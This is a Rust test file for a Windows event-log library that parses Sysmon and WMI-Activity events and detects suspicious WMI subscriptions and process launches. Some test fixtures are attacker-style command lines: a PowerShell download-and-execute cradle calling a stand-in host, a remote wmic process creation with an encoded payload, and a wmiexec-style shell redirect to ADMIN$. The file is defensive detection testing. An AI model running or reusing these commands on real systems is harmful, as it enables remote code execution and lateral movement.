//! The events beside the six: Sysmon's, and those of WMI-Activity's Trace log.
//!
//! The fixtures are ours, after the manifests of both providers. Sysmon's texts have the quotes and
//! escapes that it writes.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "tests fail so"
)]

mod common;

use std::collections::BTreeMap;
use std::fmt::Write;

use common::evtx::{self, Style};
use wmi_events::detect::{Analysis, Twins};
use wmi_events::schema::{self, EventSchema, EventSet};
use wmi_events::source::{self, Options, Stats};
use wmi_events::value::Guid;
use wmi_events::{Event, Payload, Record, System};

const NAMESPACE: &str = "http://schemas.microsoft.com/win/2004/08/events/event";

fn all() -> Options {
    let mut options = Options::default();
    options.events = EventSet::ALL;
    options
}

/// An event of each kind beside the six, with a value in every field.
fn fixtures() -> Vec<Event<'static>> {
    let beside = EventSet::ALL - EventSet::SIX;
    beside.schemas().map(fixture).collect()
}

fn fixture(schema: &'static EventSchema) -> Event<'static> {
    let mut system = System::of(schema);
    system.computer = Some("FILE02.corp.example".into());
    system.record_id = Some(7);
    system.time_created = Some("2026-03-03T09:04:55.1090338Z".parse().unwrap());
    let mut record = Record::new(system);
    for (position, field) in schema.fields.iter().enumerate() {
        record.set(field.name, value(schema, field.name, position));
    }
    record.into_event().unwrap().unwrap()
}

fn value(schema: &EventSchema, field: &str, position: usize) -> String {
    let text = match field {
        "ProcessGuid" | "LogonGuid" | "ParentProcessGuid" | "ProviderGuid" | "CorrelationId" => {
            return Guid::from_u128(0x3bf9_3b6c_4a39 + position as u128)
                .to_string()
                .to_uppercase();
        }
        "UtcTime" => "2026-03-03 09:04:55.109",
        "Image" => r"C:\Windows\System32\cmd.exe",
        "CommandLine" | "Commandline" => "cmd.exe /c dir %%TEMP%%",
        "ParentImage" => r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        "User" | "ParentUser" => r"CORP\dana",
        "LogonId" => "0x5a31c",
        "IntegrityLevel" => "High",
        "Hashes" => "SHA256=00FF,IMPHASH=11EE",
        "Name" if schema.event_id.get() == 20 => r#" "Updater""#,
        "Name" | "EventNamespace" | "Query" if schema.provider.guid == schema::SYSMON.guid => {
            r#" "root\\cimv2""#
        }
        "Type" => "Command Line",
        "Destination" => r#" "C:\\Temp\\x.exe \"a b\"""#,
        "Consumer" => r#" "\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name=\"Updater\"""#,
        "Filter" => r#" "__EventFilter.Name=\"Updater\"""#,
        "Operation" if schema.provider.guid != schema::SYSMON.guid => {
            r"Start IWbemServices::ExecMethod - root\cimv2 : Win32_Process::Create"
        }
        "NamespaceName" | "Namespace" => r"\\.\root\cimv2",
        "IsLocal" => "false",
        "ResultCode" => "0x80041003",
        _ if field.ends_with("CreationTime") => "133420814327695919",
        _ if field.ends_with("Id") || field.ends_with("ID") || field == "Flags" => {
            return (1000 + 4 * position).to_string();
        }
        _ => return format!("{field} {position}"),
    };
    text.to_owned()
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;")
}

/// As Windows prints it: Sysmon's fields in `EventData`, those of the Trace log in `UserData`.
fn xml(event: &Event<'_>) -> String {
    let (system, schema) = (&event.system, event.payload.schema());
    let mut text = format!(
        "<Event xmlns='{NAMESPACE}'><System><Provider Name='{}' Guid='{}'/><EventID>{}</EventID>\
         <Version>{}</Version><TimeCreated SystemTime='{}'/><EventRecordID>7</EventRecordID>\
         <Channel>{}</Channel><Computer>{}</Computer></System>",
        schema.provider.name,
        schema.provider.guid,
        schema.event_id,
        schema.version,
        system.time_text().unwrap(),
        schema.channel,
        system.computer.as_deref().unwrap(),
    );
    let is_of_sysmon = schema.provider.guid == schema::SYSMON.guid;
    // The name of most elements of the Trace log is not documented.
    let element = schema.element.unwrap_or("Operation_Other");
    let (start, end) = match is_of_sysmon {
        true => ("<EventData>".to_owned(), "</EventData>".to_owned()),
        false => (
            format!(
                "<UserData><{element} xmlns='http://manifests.microsoft.com/win/2006/windows/WMI'>"
            ),
            format!("</{element}></UserData>"),
        ),
    };
    text += &start;
    for field in event.fields() {
        let (name, value) = (field.name(), escaped(&field.text()));
        match is_of_sysmon {
            true => write!(text, "<Data Name='{name}'>{value}</Data>").unwrap(),
            false => write!(text, "<{name}>{value}</{name}>").unwrap(),
        }
    }
    text + &end + "</Event>"
}

/// A flat object, as NXLog writes it.
fn flat(event: &Event<'_>) -> String {
    let schema = event.payload.schema();
    let mut object = serde_json::json!({
        "EventTime": event.system.time_text(),
        "Hostname": event.system.computer,
        "SourceName": schema.provider.name,
        "EventID": schema.event_id.get(),
        "Channel": schema.channel,
        "RecordNumber": 7,
    });
    for field in event.fields() {
        object[field.name()] = field.text().into();
    }
    object.to_string()
}

#[test]
fn read_from_every_format() {
    for event in fixtures() {
        let name = event.payload.schema().name;
        let text = xml(&event);
        let read = source::xml::parse(&text, &all()).unwrap().unwrap();
        assert_eq!(read, event, "{name}");
        let utf16: Vec<u16> = text.encode_utf16().collect();
        assert_eq!(
            source::xml::parse_utf16(&utf16, &all()).unwrap().unwrap(),
            event,
            "{name}"
        );
        let json = serde_json::to_string(&event).unwrap();
        let read = source::json::parse(&json, &all()).unwrap().unwrap();
        assert_eq!(read, event, "{name}");
        let flat = flat(&event);
        let read = source::json::parse(&flat, &all()).unwrap().unwrap();
        assert_eq!(read.payload, event.payload, "{name}: {flat}");
        let values: Vec<_> = event
            .fields()
            .map(|field| field.text().into_owned())
            .collect();
        let record = Record::from_values(event.system.clone(), values);
        assert_eq!(record.into_event().unwrap().unwrap(), event, "{name}");
    }
}

#[test]
fn read_from_evtx() {
    let events = fixtures();
    for typed in [true, false] {
        let file = evtx::file(
            &events,
            Style {
                typed,
                ..Style::WINDOWS
            },
        );
        let reader = source::evtx::Reader::from_stream(file.as_slice(), all()).unwrap();
        let read: Vec<_> = reader.map(Result::unwrap).collect();
        assert_eq!(read, events);
    }
}

/// The message as the manifest has it, with the fields' values.
fn message(template: &str, event: &Event<'_>) -> String {
    let mut text = String::new();
    let mut pieces = template.split('%');
    text += pieces.next().unwrap();
    for piece in pieces {
        let digits = piece.bytes().take_while(u8::is_ascii_digit).count();
        let (number, rest) = piece.split_at(digits);
        let name = event.payload.schema().fields[number.parse::<usize>().unwrap() - 1].name;
        text += &event.field(name).unwrap().text();
        text += rest;
    }
    text
}

#[test]
fn read_from_messages() {
    // The text of the manifest, and the fields that it prints: a fixture has a value in each.
    let table: [(&EventSchema, &str); 9] = [
        (
            &schema::SYSMON_PROCESS_CREATION,
            "Process Create:\r\nRuleName: %1\r\nUtcTime: %2\r\nProcessGuid: %3\r\nProcessId: %4\r\n\
             Image: %5\r\nCommandLine: %11\r\nCurrentDirectory: %12\r\nUser: %13\r\nLogonGuid: %14\r\n\
             LogonId: %15\r\nTerminalSessionId: %16\r\nIntegrityLevel: %17\r\nHashes: %18\r\n\
             ParentProcessGuid: %19\r\nParentProcessId: %20\r\nParentImage: %21\r\n\
             ParentCommandLine: %22",
        ),
        (
            &schema::SYSMON_WMI_EVENT_FILTER,
            "WmiEventFilter activity detected:\r\nRuleName: %1\r\nEventType: %2\r\nUtcTime: %3\r\n\
             Operation: %4\r\nUser: %5\r\nEventNamespace: %6\r\nName: %7\r\nQuery: %8",
        ),
        (
            &schema::SYSMON_WMI_EVENT_CONSUMER_TO_FILTER,
            "WmiEventConsumerToFilter activity detected:\r\nEventType: %2\r\nUtcTime: %3\r\n\
             Operation: %4\r\nUser: %5\r\nConsumer: %6\r\nFilter: %7",
        ),
        // To Windows 10 1703, the namespace is after its label; since then, the creation time is.
        (
            &schema::OPERATION_STARTED,
            "CorrelationId = %1; GroupOperationId = %2; OperationId = %3; Operation = %4; \
             ClientMachine = %5; User = %7; ClientProcessId = %8; NamespaceName = %10",
        ),
        (
            &schema::OPERATION_STARTED,
            "CorrelationId = %1; GroupOperationId = %2; OperationId = %3; Operation = %4; \
             ClientMachine = %5; User = %7; ClientProcessId = %8; NamespaceName = %9",
        ),
        (
            &schema::PROVIDER_OPERATION,
            "ProviderInfo for GroupOperationId = %1; Operation = %2; HostID = %3; ProviderName = %4; \
             ProviderGuid = %5; Path = %6",
        ),
        (
            &schema::OPERATION_STOPPED,
            "Stop OperationId = %1; ResultCode = %2",
        ),
        (
            &schema::METHOD_EXECUTED,
            "CorrelationId = %1; GroupOperationId = %2; OperationId = %3; ClassName= %4; \
             MethodName = %5; ImplementationClass = %6; ClientMachine = %7; User = %9; \
             ClientProcessId = %10; NamespaceName = %12",
        ),
        // Each value after the label of another.
        (
            &schema::PROCESS_CREATED,
            "CorrelationId = %1; GroupOperationId = %2; OperationId = %3; Commandline= %4; \
             CreatedProcessId = %5; ClientMachine = %6; User = %8; ClientProcessId = %9",
        ),
    ];
    for (schema, template) in table {
        let event = fixture(schema);
        let text = message(template, &event);
        let read = source::message::parse(event.system.clone(), &text)
            .unwrap()
            .unwrap();
        assert_eq!(
            read.fields().count(),
            template.matches('%').count(),
            "{text}\n{read:?}"
        );
        for field in read.fields() {
            let expected = event.field(field.name()).unwrap();
            // A message without all of its lines is read by their labels, blanks aside.
            assert_eq!(
                field.text().trim(),
                expected.text().trim(),
                "{} in {text}",
                field.name()
            );
        }
    }
    // The message of 24 is not known: its fields are read, and its message is no field.
    let event = fixture(&schema::OPERATION_QUERY);
    assert!(source::message::parse(event.system.clone(), "GroupOperationId = 1").is_err());
}

#[test]
fn a_reader_gives_what_was_chosen() {
    let events = fixtures();
    let xml: String = events.iter().map(xml).collect();
    let lines: String = events.iter().map(|event| flat(event) + "\n").collect();
    let evtx = evtx::file(&events, Style::WINDOWS);
    let filter = EventSet::SYSMON_WMI_EVENT_FILTER;
    for chosen in [
        EventSet::SIX,
        EventSet::ALL,
        filter,
        EventSet::TRACE,
        EventSet::empty(),
    ] {
        let mut options = Options::default();
        options.events = chosen;
        let expected: Vec<_> = events
            .iter()
            .filter(|event| chosen.has(event.payload.schema()))
            .map(|event| event.payload.clone())
            .collect();
        let check = |format: &str, mut reader: source::AnyReader| {
            let read: Vec<_> = reader
                .by_ref()
                .map(|event| event.unwrap().payload)
                .collect();
            assert_eq!(read, expected, "{format} {chosen}");
            let Stats {
                seen,
                matched,
                skipped,
                ..
            } = reader.stats();
            let (all, given) = (events.len() as u64, expected.len() as u64);
            assert_eq!(
                (seen, matched, skipped),
                (all, given, all - given),
                "{format} {chosen}"
            );
        };
        for (format, bytes) in [
            ("xml", xml.as_bytes()),
            ("json", lines.as_bytes()),
            ("evtx", &evtx),
        ] {
            let input = std::io::Cursor::new(bytes.to_vec());
            check(format, source::from_reader(input, &options).unwrap());
        }
    }
    let text = self::xml(&events[0]);
    assert_eq!(Event::from_xml(&text).unwrap(), None);
    assert_eq!(Event::from_json(&flat(&events[0])).unwrap(), None);
}

/// A record without a provider and a channel is of nobody only if its ID may be of a chosen event.
#[test]
fn an_id_alone() {
    for (id, of_six, of_all) in [(1, 0, 1), (4688, 1, 1), (7045, 0, 0)] {
        for (options, unrecognized) in [(Options::default(), of_six), (all(), of_all)] {
            let line = format!(r#"{{"EventID":{id},"Hostname":"WKS07"}}"#);
            let mut reader = source::json::Reader::with_options(line.as_bytes(), options);
            assert_eq!(reader.by_ref().count(), 0);
            assert_eq!(reader.stats().unrecognized, unrecognized, "{id}");
        }
    }
}

/// What the parts of a subscription that Sysmon tells show.
#[test]
fn parts_of_a_subscription() {
    let with = |schema: &'static EventSchema, fields: &[(&'static str, &'static str)]| {
        let mut record = Record::new(System::of(schema));
        record.set("Operation", "Created");
        record.extend(fields.iter().copied());
        record.into_event().unwrap().unwrap()
    };
    let consumer = &schema::SYSMON_WMI_EVENT_CONSUMER;
    let download =
        r#" "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://x/y')\"""#;
    let table: [(Event<'_>, Option<&str>); 7] = [
        (
            with(
                consumer,
                &[("Type", "Command Line"), ("Destination", download)],
            ),
            Some("suspicious_consumer"),
        ),
        (
            with(
                consumer,
                &[("Type", "Script"), ("Destination", r#" "Set x = 1""#)],
            ),
            Some("active_script_consumer"),
        ),
        (
            with(
                consumer,
                &[
                    ("Type", "Log File"),
                    ("Destination", r#" "C:\\inetpub\\x.aspx""#),
                ],
            ),
            Some("file_consumer_executable"),
        ),
        (
            with(
                &schema::SYSMON_WMI_EVENT_FILTER,
                &[(
                    "Query",
                    r#" "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'""#,
                )],
            ),
            Some("watches_logon"),
        ),
        (
            with(
                &schema::SYSMON_WMI_EVENT_CONSUMER_TO_FILTER,
                &[("Consumer", r#" "CommandLineEventConsumer.Name=\"x\"""#)],
            ),
            Some("command_line_consumer"),
        ),
        (
            with(consumer, &[("Operation", "Deleted"), ("Type", "Script")]),
            None,
        ),
        (
            with(
                &schema::SYSMON_WMI_EVENT_FILTER,
                &[("Operation", "Modified")],
            ),
            Some("unknown_subscription"),
        ),
    ];
    for (event, expected) in table {
        let findings: Vec<_> = event.findings().map(|finding| finding.name()).collect();
        assert_eq!(
            findings.first().copied(),
            expected,
            "{event:?}: {findings:?}"
        );
    }
}

/// Where the corpus has a process in both logs, they are one: by computer, process ID and time, and
/// with one finding of each kind.
#[test]
fn one_process_of_two_logs() {
    let Some(dir) = common::corpus() else { return };
    let evtx = dir.join("evtx/eas-tutto-malseclogon.evtx");
    let xml = common::beside(&dir, "more").join("xml/splunk-attack_data-certutil.xml");
    for (path, sysmon, both) in [(evtx, 3, 3), (xml, 20, 20)] {
        let reader = source::open_with(&path, &all()).unwrap();
        let events: Vec<_> = reader.map(Result::unwrap).collect();
        let is_of_sysmon =
            |event: &&Event<'_>| matches!(event.payload, Payload::SysmonProcessCreation(_));
        assert_eq!(
            events.iter().filter(is_of_sysmon).count(),
            sysmon,
            "{}",
            path.display()
        );
        let (mut tree, mut twins) = (wmi_events::detect::ProcessTree::default(), Twins::default());
        let (mut told, mut seen) = (BTreeMap::new(), BTreeMap::new());
        let mut processes = 0;
        for event in &events {
            let analysis = Analysis::new(event);
            let Some(process) = analysis.process() else {
                continue;
            };
            processes += 1;
            tree.observe(event);
            let twin = twins.observe(&analysis);
            for finding in analysis.findings() {
                let key = (process.id(), finding.name());
                *seen.entry(key).or_insert(0) += 1;
                if !twin
                    .as_ref()
                    .is_some_and(|twin| twin.gave(finding.detection))
                {
                    *told.entry(key).or_insert(0) += 1;
                }
            }
        }
        assert_eq!(processes - tree.len(), both, "{}", path.display());
        for (key, count) in &told {
            assert_eq!(*count, 1, "{key:?} of {seen:?}");
        }
        assert!(told.keys().eq(seen.keys()), "nothing is lost");
    }
}

/// A message alone has all fields, whatever the version, and also without one.
#[test]
fn read_from_messages_of_records() {
    let message = "Process Create:\r\nRuleName: -\r\nUtcTime: 2026-03-03 09:01:12.498\r\n\
                   ProcessGuid: {8a3f1c2e-6d1b-67c5-4f03-000000002b00}\r\nProcessId: 20\r\nImage: C:\\x.exe\r\n\
                   FileVersion: -\r\nDescription: -\r\nProduct: -\r\nCompany: -\r\nOriginalFileName: wmic.exe\r\n\
                   CommandLine: x.exe /node:FILE02 os get\r\nCurrentDirectory: C:\\\r\nUser: CORP\\dana\r\n\
                   LogonGuid: {8a3f1c2e-6d1b-67c5-4f03-000000002b01}\r\nLogonId: 0x3E7\r\nTerminalSessionId: 1\r\n\
                   IntegrityLevel: High\r\nHashes: SHA256=00\r\n\
                   ParentProcessGuid: {8a3f1c2e-6d1b-67c5-4f03-000000002b02}\r\nParentProcessId: 8\r\n\
                   ParentImage: C:\\y.exe\r\nParentCommandLine: y.exe\r\nParentUser: CORP\\dana";
    let mut options = Options::default();
    options.events = EventSet::ALL;
    for version in [None, Some(3), Some(4), Some(5)] {
        let mut record = serde_json::json!({
            "EventID": 1,
            "SourceName": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventTime": "2026-03-03T09:01:12Z",
            "Message": message,
        });
        if let Some(version) = version {
            record["Version"] = version.into();
        }
        let text = record.to_string();
        let mut reader = source::from_reader(std::io::Cursor::new(text), &options).unwrap();
        let event = reader.next().unwrap().unwrap();
        let process = event.process().unwrap();
        assert_eq!(
            process.command_line(),
            Some("x.exe /node:FILE02 os get"),
            "{version:?}"
        );
        assert_eq!(event.fields().count(), 23, "{version:?}: {event:#?}");
        assert!(reader.next().is_none());
    }
}

/// Whoever starts a process may have written its original file name: it takes no finding away.
#[test]
fn an_original_file_name_hides_nothing() {
    let wmic = r#"wmic /node:SRV01 process call create "powershell -enc QQBBAA==""#;
    let shell = r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1705 2>&1";
    for (image, line, lie) in [
        (r"C:\Temp\wmic.exe", wmic, "Cmd.Exe"),
        (r"C:\Windows\System32\cmd.exe", shell, "wmic.exe"),
    ] {
        let findings = |name: &'static str| -> Vec<&str> {
            let process = wmi_events::event::SysmonProcessCreation::builder()
                .image(image)
                .command_line(line)
                .original_file_name(name);
            let event = Event::new(System::of(&schema::SYSMON_PROCESS_CREATION), process);
            event.findings().map(|finding| finding.name()).collect()
        };
        let (plain, named) = (findings("-"), findings(lie));
        assert!(!plain.is_empty());
        assert!(
            plain.iter().all(|name| named.contains(name)),
            "{plain:?} {named:?}"
        );
    }
}
